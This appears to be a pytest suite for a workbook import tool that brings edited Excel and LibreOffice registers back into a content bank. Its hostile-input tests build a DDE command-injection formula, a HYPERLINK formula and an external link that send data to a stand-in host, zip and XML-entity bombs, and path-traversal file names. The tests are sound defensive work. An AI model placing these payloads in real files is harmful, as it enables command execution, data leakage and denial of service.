"""Registers leave as workbooks and come back: real LibreOffice, real files, every byte looked at."""

from __future__ import annotations

import codecs
import difflib
import io
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.utils.exceptions import IllegalCharacterError
from openpyxl.worksheet.worksheet import Worksheet

from metodbank.intake.register.changes import What, difference
from metodbank.intake.register.csv_edit import edited
from metodbank.intake.register.files import file_changes
from metodbank.intake.register.front_edit import with_value
from metodbank.intake.register.layout import NAME, registers, sheets
from metodbank.intake.register.reading import read_workbook
from metodbank.intake.register.taking import Taking, take
from metodbank.intake.register.workbook import workbook_of
from metodbank.model.kinds import kinds
from metodbank.rules.corpus import Corpus, read_corpus
from metodbank.rules.settings import Settings
from metodbank.site.settings import read_settings
from tests.commands_help import command, small_project
from tests.conftest import ROOT
from tests.office import Office
from tests.small_bank import SmallBank

CASES = yaml.safe_load((Path(__file__).parent / "registers.yml").read_text(encoding="utf-8"))


@dataclass(frozen=True)
class Sent:
    """A bank nobody edits, and its workbooks as they left."""

    settings: Settings
    corpus: Corpus
    books: dict[str, Path]


def sent_from(settings: Settings, folder: Path) -> Sent:
    """Write all workbooks of a bank."""
    corpus = read_corpus(settings)
    books = {}
    for name, register in registers().items():
        books[name] = folder / f"{name}.xlsx"
        books[name].write_bytes(workbook_of(register, corpus))
    return Sent(settings, corpus, books)


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Sent:
    """The demo bank and all its workbooks."""
    return sent_from(read_settings(ROOT / "mkdocs.yml"), tmp_path_factory.mktemp("demo"))


@pytest.fixture(scope="module")
def sent(tmp_path_factory: pytest.TempPathFactory) -> Sent:
    """The small bank and all its workbooks."""
    folder = tmp_path_factory.mktemp("registers")
    return sent_from(SmallBank.copied(folder).settings, folder)


@pytest.fixture
def bank(tmp_path: Path) -> Settings:
    """A copy of the small bank to write into."""
    return SmallBank.copied(tmp_path).settings


def columns(sheet: Worksheet) -> dict[str, int]:
    """Column numbers by head."""
    return {str(cell.value): cell.column for cell in sheet[1] if cell.value}


def row_of(sheet: Worksheet, name: str) -> int:
    """The first row whose first cell is a name."""
    return next(int(cell.row) for cell in sheet["A"] if cell.value == name)


def edit(book: Path, target: Path, sheet: str, cells: Mapping[Any, Any]) -> Path:
    """Save a copy of a workbook with cells changed: by the name of the row, or its number, and the head."""
    found = load_workbook(book)
    heads = columns(found[sheet])
    for (row, head), value in cells.items():
        number = row if isinstance(row, int) else row_of(found[sheet], row)
        found[sheet].cell(number, heads[head]).value = value
    found.save(target)
    return target


def changed_lines(before: str, after: str) -> list[str]:
    """The lines that differ, with their sign."""
    found = difflib.unified_diff(before.splitlines(), after.splitlines(), lineterm="", n=0)
    return [line for line in found if line[:1] in "+-" and line[:3] not in ("+++", "---")]


def everything(root: Path) -> dict[str, bytes]:
    """All bytes of a bank."""
    return {str(path.relative_to(root)): path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()}


def said(taking: Taking) -> list[str]:
    """Problems as the goldens write them."""
    return [f"{found.path}:{found.line}:{found.column} {found.code} {found.message}" for found in taking.problems]


def test_a_workbook_nobody_edited_changes_nothing(demo: Sent, tmp_path: Path) -> None:
    saved = Office.in_folder(tmp_path / "office").convert(list(demo.books.values()), "xlsx", tmp_path)
    for book in (*demo.books.values(), *saved):
        read = read_workbook(book)
        assert [found.message for found in read.problems] == [], book.name
        assert sum(map(len, read.rows.values())) > 0, book.name
        found = difference(read, demo.corpus, book.name)
        assert [(row.sheet, row.name, row.cells) for row in found.rows] == [], book.name
        assert found.problems == []


@pytest.mark.parametrize(("form", "filter_"), [("ods", "ods"), ("xls", "xls:MS Excel 97")])
def test_a_workbook_of_another_program_says_the_same(form: str, filter_: str, demo: Sent, tmp_path: Path) -> None:
    (book,) = Office.in_folder(tmp_path / "office").convert([demo.books["internships"]], filter_, tmp_path)
    read = read_workbook(book)
    assert [found.message for found in read.problems] == []
    assert read.rows == read_workbook(demo.books["internships"]).rows
    assert book.suffix == f".{form}"


def test_what_only_libreoffice_reads_is_refused_with_the_way_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(name: str, raw: bytes) -> str:
        (tmp_path / name).write_bytes(raw)
        (found,) = read_workbook(tmp_path / name).problems
        return found.message

    assert "это не файл LibreOffice" in refused("a.ods", b"PK no")
    assert "с макросами" in refused("a.xlsm", b"PK")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("content.xml", b"<a>" + bytes(150_000_000))
    assert "разрастается сверх меры" in refused("a.ods", bomb.getvalue())
    locked = io.BytesIO()
    with zipfile.ZipFile(locked, "w") as package:
        package.writestr("META-INF/manifest.xml", "<m><encryption-data/></m>")
    assert "закрыт паролем" in refused("a.ods", locked.getvalue())
    monkeypatch.setenv("PATH", str(tmp_path))
    told = refused("a.xls", b"\xd0\xcf\x11\xe0")
    assert "нужен LibreOffice" in told
    assert "откройте «a.xls» в Excel и сохраните как .xlsx" in told


def test_a_table_begins_from_a_workbook(sent: Sent, bank: Settings) -> None:
    tables = {
        "mentoring": "content/tables/mentoring.csv",
        "figures": "content/indicators/figures/okrug.csv",
        "roadmaps": "content/roadmaps/karta-2026.csv",
    }
    before = {register: (bank.root / name).read_bytes() for register, name in tables.items()}
    for name in tables.values():
        (bank.root / name).unlink()
    taking = take(sent.books["mentoring"], bank)
    assert (said(taking), {row.what for row in taking.rows}) == ([], {What.NEW})
    assert taking.write() == ""
    assert (bank.root / tables["mentoring"]).read_bytes() == codecs.BOM_UTF8 + before["mentoring"]
    corpus = read_corpus(bank)
    for register in ("figures", "roadmaps"):
        found = difference(read_workbook(sent.books[register]), corpus, "book.xlsx")
        (made,) = file_changes(found, corpus)
        assert (made.name, made.before) == (tables[register], None)
        assert made.after is not None
        head, old = (raw.decode("utf-8-sig").splitlines() for raw in (made.after, before[register]))
        assert len(head) == len(old)
        assert set(head[0].split(";")) >= set(old[0].split(";"))


def test_every_field_of_the_model_has_a_column() -> None:
    for kind in kinds().values():
        if kind.name == "practice":
            continue
        top = {path[0] for s in sheets().values() if s.kind is kind for path in _paths(s)}
        assert top == set(kind.fields)


def _paths(sheet: Any) -> Iterator[tuple[str, ...]]:
    yield from ((*sheet.inside, *column.path) for column in sheet.columns)


def test_changed_cells_change_their_lines_and_no_others(bank: Settings, tmp_path: Path) -> None:
    target = bank.root / "content/people/p-001.md"
    text = target.read_text(encoding="utf-8").replace("category: высшая", "category: высшая  # приказ № 7")
    text = text.replace("[Математика]", "[Математика, Алгебра, Геометрия]")
    text = text.replace("\nconsent:", "\nphone: +7 (000) 000-00-03 доб. 21\nconsent:")
    target.write_text(text, encoding="utf-8")
    book = edit(
        sent_from(bank, tmp_path).books["people"],
        tmp_path / "people.xlsx",
        "Люди",
        {
            ("p-001", "Категория"): "первая",
            ("p-001", "Предметы"): "Математика\nФизика",
            ("p-001", "Согласие на публикацию: Действует до"): "31.12.2028",
            ("p-001", "Телефон"): None,
            (200, "Должность"): "учитель",
            (200, "Организация"): "shkola-3 — как в перечне",
        },
    )
    before = everything(bank.root)
    taking = take(book, bank)
    assert said(taking) == []
    assert [(row.what, row.name) for row in taking.rows][:1] == [(What.CHANGED, "p-001")]
    assert everything(bank.root) == before
    assert taking.write() == ""
    after = everything(bank.root)
    (new,) = after.keys() - before.keys()
    assert after[new].decode() == "---\nposition: учитель\norganization: shkola-3\n---\n"
    assert {name for name in before if before[name] != after[name]} == {"content/people/p-001.md"}
    assert changed_lines(text, target.read_text(encoding="utf-8")) == [
        "-subjects: [Математика, Алгебра, Геометрия]",
        "-category: высшая  # приказ № 7",
        "+subjects: [Математика, Физика]",
        "+category: первая  # приказ № 7",
        "-phone: +7 (000) 000-00-03 доб. 21",
        "-  until: 2029-01-15",
        "+  until: 2028-12-31",
    ]


def test_items_of_lists_and_rows_of_tables(sent: Sent, bank: Settings, tmp_path: Path) -> None:
    book = load_workbook(sent.books["internships"])
    sheet = book["Площадка. График стажировок"]
    slug = sheet["A2"].value
    entry = bank.root / f"content/internships/{slug}.md"
    old = entry.read_text(encoding="utf-8")
    heads = columns(sheet)
    sheet.cell(2, heads["Тема"], "Другая тема занятия")
    sheet.append([slug, None, "Ещё одно занятие", "очно", 7])
    sheet.cell(sheet.max_row, heads["Дата"], "2026-12-24")
    book.save(tmp_path / "internships.xlsx")
    taking = take(tmp_path / "internships.xlsx", bank)
    assert said(taking) == []
    assert taking.write() == ""
    changed = entry.read_text(encoding="utf-8")
    assert "Другая тема занятия" in changed
    assert "Ещё одно занятие" in changed
    assert changed.partition("\n---\n")[2] == old.partition("\n---\n")[2]

    file = bank.root / "content/tables/mentoring.csv"
    before = file.read_bytes()
    counted = edit(sent.books["mentoring"], tmp_path / "mentoring.xlsx", "Наставничество", {(2, "Наставников"): 6})
    taking = take(counted, bank)
    assert said(taking) == []
    assert taking.write() == ""
    assert file.read_bytes() == before.replace(b";3;5;2;5;5", b";6;5;2;5;5", 1)


def test_nothing_is_deleted_unless_asked(sent: Sent, bank: Settings, tmp_path: Path) -> None:
    book = load_workbook(sent.books["mentoring"])
    book["Наставничество"].delete_rows(2)
    book.save(tmp_path / "mentoring.xlsx")
    kept = take(tmp_path / "mentoring.xlsx", bank)
    assert [row.what for row in kept.rows] == [What.MISSING]
    assert kept.files == ()
    taking = take(tmp_path / "mentoring.xlsx", bank, delete=True)
    file = bank.root / "content/tables/mentoring.csv"
    before = file.read_text(encoding="utf-8")
    assert taking.write() == ""
    assert changed_lines(before, file.read_text(encoding="utf-8")) == [f"-{before.splitlines()[1]}"]


def test_an_entry_others_name_is_not_deleted(sent: Sent, bank: Settings, tmp_path: Path) -> None:
    book = load_workbook(sent.books["organizations"])
    sheet = book["Организации"]
    sheet.delete_rows(row_of(sheet, "shkola-3"))
    book.save(tmp_path / "organizations.xlsx")
    taking = take(tmp_path / "organizations.xlsx", bank, delete=True)
    assert not taking.allowed
    assert any("shkola-3" in found.message and found.path.startswith("practices/") for found in taking.problems)


def test_good_rows_go_in_without_the_bad(sent: Sent, bank: Settings, tmp_path: Path) -> None:
    cells = {("p-001", "Категория"): "нулевая", ("p-002", "Категория"): "высшая"}
    book = edit(sent.books["people"], tmp_path / "people.xlsx", "Люди", cells)
    assert not take(book, bank).allowed
    taking = take(book, bank, good_rows=True)
    assert taking.allowed
    assert [file.name for file in taking.files] == ["content/people/p-002.md"]
    assert [(place.sheet, place.row) for place in taking.left_out] == [("Люди", 2)]


def test_a_file_changed_meanwhile_stops_everything(sent: Sent, bank: Settings, tmp_path: Path) -> None:
    cells = {("p-001", "Категория"): "первая", ("p-002", "Категория"): "высшая"}
    taking = take(edit(sent.books["people"], tmp_path / "people.xlsx", "Люди", cells), bank)
    target = bank.root / "content/people/p-002.md"
    target.write_text(target.read_text(encoding="utf-8") + "\nДописали.\n", encoding="utf-8")
    before = everything(bank.root)
    assert taking.write() == "content/people/p-002.md"
    assert everything(bank.root) == before


def spoil(name: str, sent: Sent, target: Path) -> Path:
    """Make a workbook with a mistake people make."""
    if name == "nobody":
        return edit(sent.books["programs"], target, "Программа. Обучено", {(2, NAME): "net-takoy"})
    book = sent.books["people"]
    found = load_workbook(book)
    sheet = found["Люди"]
    heads = columns(sheet)
    match name:
        case "word":
            sheet.cell(2, heads["Категория"], "высочайшая")
        case "no_name":
            sheet.cell(1, 1, "Файл")
        case "twice":
            sheet.cell(3, 1, "p-001")
        case "column_twice":
            sheet.cell(1, sheet.max_column + 1, "Должность")
        case "error":
            sheet.cell(2, heads["Категория"], "=1/0")
        case "merged":
            sheet.merge_cells(start_row=2, end_row=4, start_column=heads["Категория"], end_column=heads["Категория"])
        case "merged_names":
            sheet.merge_cells("A2:A3")
        case "link":
            sheet.cell(2, heads["Категория"], '=HYPERLINK("http://192.0.2.1/?"&A2,"высшая")')
        case "command":
            sheet.cell(2, heads["Категория"], "=cmd|' /C calc'!A0")
        case "reference":
            sheet.cell(2, heads["Организация"], "shkola-33")
        case "edited":
            sheet.cell(2, heads["Категория"], "первая")
        case "own":
            sheet.cell(1, sheet.max_column + 1, "Моя пометка")
            sheet.cell(2, sheet.max_column, "позвонить")
            sheet.delete_cols(heads["Категория"])
            found.create_sheet("Для себя")["A1"] = "что угодно"
        case "outside":
            for row, name in ((200, "../../p-900"), (201, "con")):
                sheet.cell(row, 1, name)
                sheet.cell(row, heads["Должность"], "учитель")
                sheet.cell(row, heads["Организация"], "shkola-3")
        case "not_a_workbook":
            target.write_bytes(b"PK not a workbook")
            return target
        case "entities" | "bomb" | "million" | "foreign":
            return _hostile(name, book, target)
    found.save(target)
    return target


PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SPACE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINK = f"{SPACE}/externalLink"
FOREIGN = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    f'<externalBook xmlns:r="{SPACE}" r:id="rId1"/></externalLink>'
)


def _hostile(name: str, book: Path, target: Path) -> Path:
    with zipfile.ZipFile(book) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            content = old.read(part)
            if part == "xl/workbook.xml" and name == "entities":
                content = content.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>', 1)
            if part == "xl/worksheets/sheet1.xml" and name == "million":
                rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(3000, 750_000))
                content = content.replace(b"</sheetData>", rows + b"</sheetData>")
            if part == "xl/_rels/workbook.xml.rels" and name == "foreign":
                line = f'<Relationship Id="rId900" Type="{LINK}" Target="externalLinks/externalLink1.xml"/>'
                content = content.replace(b"</Relationships>", line.encode() + b"</Relationships>")
            if part == "xl/workbook.xml" and name == "foreign":
                line = f'<externalReferences><externalReference xmlns:r="{SPACE}" r:id="rId900"/></externalReferences>'
                content = content.replace(b"</sheets>", b"</sheets>" + line.encode())
            new.writestr(part, content)
        if name == "foreign":
            there = (
                f'<Relationship Id="rId1" Type="{LINK}Path" Target="http://192.0.2.1/x.xlsx" TargetMode="External"/>'
            )
            new.writestr("xl/externalLinks/externalLink1.xml", FOREIGN)
            new.writestr(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                f'<Relationships xmlns="{PACKAGE}">{there}</Relationships>',
            )
        if name == "bomb":
            new.writestr("xl/media/bomb.bin", bytes(150_000_000))
    return target


@pytest.mark.parametrize("case", CASES, ids=lambda case: str(case["what"]))
def test_mistakes_are_told_by_sheet_and_cell(
    case: dict[str, Any], sent: Sent, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    settings = sent.settings
    if "bom" in case:
        settings = request.getfixturevalue("bank")
        target = settings.root / case["bom"]
        target.write_bytes(codecs.BOM_UTF8 + target.read_bytes())
    taking = take(spoil(case["spoil"], sent, tmp_path / "book.xlsx"), settings)
    assert said(taking) == case["problems"]
    assert not taking.allowed


FRONT = """
title: Имя  # как в приказе
order:
  number: "7"
  # о чём
  title: Старое
valid_from: 2026-01-01
schedule:
  - date: 2026-02-03
    topic: >-
      Длинная тема,
      в две строки
  - {date: 2026-02-04, topic: Короткая}
"""

EDITS = [
    (("title",), "Новое", ["-title: Имя  # как в приказе", "+title: Новое  # как в приказе"]),
    (("order", "title"), None, ["-  title: Старое"]),
    (("order", "date"), "2026-03-01", ["+  date: 2026-03-01"]),
    (
        ("schedule", 0, "topic"),
        "Иная",
        ["-    topic: >-", "-      Длинная тема,", "-      в две строки", "+    topic: Иная"],
    ),
    (("schedule", 1, "topic"), "Иная, с запятой", None),
    (("contact", "email"), "a@example.org", ["+contact:", "+  email: a@example.org"]),
    (("order",), None, None),
]


@pytest.mark.parametrize(("path", "value", "lines"), EDITS, ids=[".".join(map(str, edit[0])) for edit in EDITS])
def test_one_value_of_a_front_matter(path: Any, value: Any, lines: list[str] | None) -> None:
    after = with_value(FRONT, kinds()["internship"], path, value)
    found = changed_lines(FRONT, after)
    if lines is not None:
        assert found == lines
    assert "# как в приказе" in after


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ('\ufeffА;Б\r\n"x;y";1\r\n'.encode(), '\ufeffА;Б\r\n"x;y";2\r\nя;"a;b"\r\n'.encode()),
        ("А;Б\n1;1".encode("cp1251"), 'А;Б\n1;2\nя;"a;b"\n'.encode("cp1251")),
        ('А;Б\n"две\nстроки";"1"\n'.encode(), 'А;Б\n"две\nстроки";"2"\nя;"a;b"\n'.encode()),
    ],
    ids=["BOM, CRLF, quotes", "Windows-1251 without an end", "a cell of two lines"],
)
def test_a_csv_keeps_its_encoding_quotes_and_ends(raw: bytes, expected: bytes) -> None:
    assert edited(raw, ";", {2: {1: "2"}}, (), [["я", "a;b"]]) == expected


@given(data=st.data())
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_broken_workbooks_never_end_in_a_traceback(data: st.DataObject, sent: Sent, tmp_path: Path) -> None:
    raw = bytearray(sent.books["staff"].read_bytes())
    if data.draw(st.booleans()):
        for _ in range(data.draw(st.integers(1, 20))):
            raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
        broken = bytes(raw)
    else:
        broken = _broken_part(data, bytes(raw))
    (tmp_path / "staff.xlsx").write_bytes(broken)
    read = read_workbook(tmp_path / "staff.xlsx")
    difference(read, sent.corpus, "staff.xlsx")


def _broken_part(data: st.DataObject, raw: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(target, "w") as new:
        broken = data.draw(st.sampled_from(old.namelist()))
        for part in old.namelist():
            content = old.read(part)
            if part == broken:
                start = data.draw(st.integers(0, len(content)))
                junk = data.draw(
                    st.sampled_from([b"", b"<c", b"9" * 400, b'r="ZZZZ99"', b"\xff\xfe", b"&lt;", b't="d"'])
                )
                content = content[:start] + junk + content[start + data.draw(st.integers(0, 40)) :]
            new.writestr(part, content)
    return target.getvalue()


CELLS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.datetimes(),
    st.times(),
    st.text(max_size=40),
)


@given(rows=st.lists(st.lists(CELLS, max_size=9), max_size=6))
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_value_in_any_cell(rows: list[list[Any]], sent: Sent, tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Люди"
    sheet.append([NAME, *(column.head for column in sheets()["Люди"].columns)])
    for row in rows:
        try:
            sheet.append([*row])
        except (ValueError, IllegalCharacterError):  # what no workbook can hold
            return
    book.save(tmp_path / "people.xlsx")
    difference(read_workbook(tmp_path / "people.xlsx"), sent.corpus, "people.xlsx")


def test_the_command_shows_asks_and_writes(sent: Sent, tmp_path: Path) -> None:
    root = small_project(tmp_path / "bank")
    cells = {("p-001", "Категория"): "первая"}
    book = edit(sent.books["people"], tmp_path / "people.xlsx", "Люди", cells)
    told = command(root, "bring_in.py", str(book))
    assert told.returncode == 0, told.stderr
    assert "изменена     Люди, строка 2: p-001" in told.stderr
    assert "Категория: высшая → первая" in told.stderr
    assert "повторите с --yes" in told.stderr
    assert "category: высшая" in (root / "content/people/p-001.md").read_text(encoding="utf-8")
    written = command(root, "bring_in.py", str(book), "--yes")
    assert written.returncode == 0, written.stderr
    assert "category: первая" in (root / "content/people/p-001.md").read_text(encoding="utf-8")
